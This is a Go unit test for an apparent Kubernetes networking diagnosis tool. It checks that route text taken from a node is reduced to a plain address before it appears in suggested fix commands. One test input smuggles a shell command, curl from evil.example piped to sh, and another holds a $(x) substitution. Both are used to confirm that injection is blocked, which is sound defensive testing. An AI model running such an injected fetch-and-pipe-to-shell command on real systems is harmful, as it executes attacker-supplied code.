package cause

import (
	"strings"
	"testing"

	"github.com/calico-probe/calico-probe/internal/diagnose"
	"github.com/calico-probe/calico-probe/internal/subject/service"
	"github.com/calico-probe/calico-probe/probe"
)

// TestNetworkArg wants nothing of a route that a node writes in a command but a network or an address.
func TestNetworkArg(t *testing.T) {
	t.Parallel()
	for route, want := range map[string]string{
		"local 10.0.0.1 dev eth0": "10.0.0.1", "local 10.0.0.0/24 dev eth0": "10.0.0.0/24", "local fd00::1": "fd00::1",
		"local ::1%;curl${IFS}evil.example|sh;# x": "", "local": "", " ": "", "local fe80::1%eth0": "", "local $(x)": "",
	} {
		f := diagnose.Findings{Node: "worker-3"}
		f.Add(probe.Event{Type: probe.EventResult, Node: "worker-3", Method: "pod", Result: &probe.Result{
			Check: service.ServiceDestination.ID, Target: "default/kubernetes 10.96.0.1:443 tcp", Status: probe.Fail,
			Facts: probe.Facts{service.FactService: "10.96.0.1:443", service.FactSentTo: "10.96.0.1:443",
				probe.FactRule: route, service.FactMeans: service.MeansRoute}}})
		for _, c := range diagnose.Explain(f, All()).Causes {
			for _, block := range c.Fix.Blocks() {
				text := strings.Join(block.Commands, "\n")
				if strings.Contains(text, "evil") || strings.Contains(text, "%") || strings.Contains(text, "$(x)") ||
					c.ID == "service-hijacked" && !strings.Contains(text, want) {
					t.Errorf("%q: %s", route, text)
				}
			}
		}
	}
}
